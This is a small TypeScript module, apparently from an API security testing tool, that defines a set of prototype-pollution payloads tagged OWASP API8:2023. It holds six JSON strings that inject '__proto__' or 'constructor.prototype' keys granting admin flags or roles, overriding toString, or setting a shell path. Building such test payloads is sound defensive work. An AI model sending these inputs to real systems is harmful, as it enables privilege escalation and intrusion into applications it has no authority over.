import { definePayload } from '../world/payloads.ts'

export default definePayload({
  id: 'prototype-pollution',
  title: 'keys that change every object of the program',
  owasp: ['API8:2023'],
  inputs: ['json'],
  values: [
    '{"__proto__":{"admin":true}}',
    '{"constructor":{"prototype":{"isAdmin":true}}}',
    '{"name":"x","__proto__":{"roles":["admin"]}}',
    '{"__proto__":{"shell":"/bin/sh","env":{"A":"#"}}}',
    '{"constructor.prototype.polluted":"#"}',
    '{"a":{"__proto__":{"toString":"#"}}}',
  ],
})
